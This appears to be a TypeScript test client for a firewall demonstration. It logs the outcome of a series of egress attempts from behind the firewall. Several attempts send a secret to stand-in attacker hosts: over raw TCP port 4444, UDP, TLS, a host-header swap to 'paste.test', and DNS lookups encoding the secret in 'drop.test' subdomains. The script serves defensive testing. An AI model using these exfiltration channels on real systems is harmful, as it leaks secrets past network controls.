/** The command that the demonstration runs behind the firewall. It knows nothing of it: plain Node clients, one line of JSON per attempt. */
import dgram from 'node:dgram';
import { Resolver, lookup } from 'node:dns/promises';
import http from 'node:http';
import net from 'node:net';
import tls from 'node:tls';
import { ADDRESSES, SECRET } from './expected.ts';

const TIMEOUT_MS = 5_000;

function say(id: string, outcome: string): void {
  process.stdout.write(`${JSON.stringify({ id, outcome })}\n`);
}

async function attempt(id: string, act: () => Promise<string>): Promise<void> {
  try {
    say(id, await act());
  } catch (error) {
    say(id, error instanceof Error && 'code' in error ? String(error.code) : String(error));
  }
}

function request(options: http.RequestOptions, body = ''): Promise<string> {
  return new Promise((resolve, reject) => {
    const sent = http.request({ timeout: TIMEOUT_MS, ...options }, (response) => {
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (text += chunk));
      response.on('end', () => {
        const about =
          response.headers['content-type'] === 'application/problem+json'
            ? ' denied by the firewall'
            : ` ${text.trim()}`;
        resolve(`${response.statusCode ?? 0}${about}`);
      });
    });
    sent.on('timeout', () => sent.destroy(new Error('timed out')));
    sent.on('error', reject);
    sent.end(body);
  });
}

/** Connects, says something if there is something to say, and waits for the first bytes. */
function converse(socket: net.Socket, words?: string): Promise<string> {
  return new Promise((resolve, reject) => {
    socket.setTimeout(TIMEOUT_MS, () => socket.destroy(new Error('timed out')));
    socket.once('data', (bytes) => {
      resolve(bytes.toString().trim());
      socket.destroy();
    });
    socket.once('error', reject);
    socket.once('end', () => {
      reject(new Error('closed without an answer'));
    });
    if (words !== undefined) socket.write(words);
  });
}

const orders = { host: 'api.shop.test', path: '/v1/orders' };

await attempt('get', () => request({ ...orders, family: 4 }));
await attempt('get-ipv6', () => request({ ...orders, family: 6 }));
await attempt('post', () => request({ ...orders, family: 4, method: 'POST' }, SECRET));

const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
await request({ ...orders, family: 4, agent });
await attempt('keep-alive', () => request({ ...orders, family: 4, agent, headers: { host: 'paste.test' } }));
await attempt('after-denial', () => request({ ...orders, family: 4, agent }));
agent.destroy();

// a pre-shared key stands for certificates: the firewall judges the ClientHello, not the trust
const key = {
  ciphers: 'PSK',
  minVersion: 'TLSv1.2',
  maxVersion: 'TLSv1.2',
  checkServerIdentity: () => undefined,
} as const;
const pskCallback = (): { identity: string; psk: Buffer } => ({ identity: 'demo', psk: Buffer.from('demo-key') });
await attempt('tls', async () => {
  const { address } = await lookup('eu.pay.test', 4);
  return converse(tls.connect({ ...key, pskCallback, host: address, port: 443, servername: 'eu.pay.test' }), 'hello\n');
});
await attempt('tls-attacker', () =>
  converse(tls.connect({ ...key, pskCallback, host: ADDRESSES.attacker, port: 443, servername: 'drop.test' }), SECRET),
);
await attempt('cache', () => converse(net.connect(6379, ADDRESSES.cache)));
await attempt('raw', () => converse(net.connect(4444, ADDRESSES.attacker), `${SECRET}\n`));
await attempt('raw-ipv6', () => converse(net.connect(4444, ADDRESSES.attacker6), `${SECRET}\n`));
await attempt(
  'udp',
  () =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket('udp4');
      const timer = setTimeout(() => {
        socket.close();
        reject(new Error('no answer'));
      }, 2_000);
      socket.on('message', (bytes) => {
        resolve(bytes.toString());
      });
      socket.on('error', (error) => {
        clearTimeout(timer);
        socket.close();
        reject(error);
      });
      socket.connect(9999, ADDRESSES.attacker, () => {
        socket.send(SECRET);
      });
    }),
);
await attempt('dns', async () => (await lookup(`${SECRET}.drop.test`)).address);
await attempt('dns-attacker', async () => {
  const resolver = new Resolver({ timeout: 2_000, tries: 1 });
  resolver.setServers([ADDRESSES.attacker]);
  return (await resolver.resolve4(`${SECRET}.drop.test`)).join(' ');
});
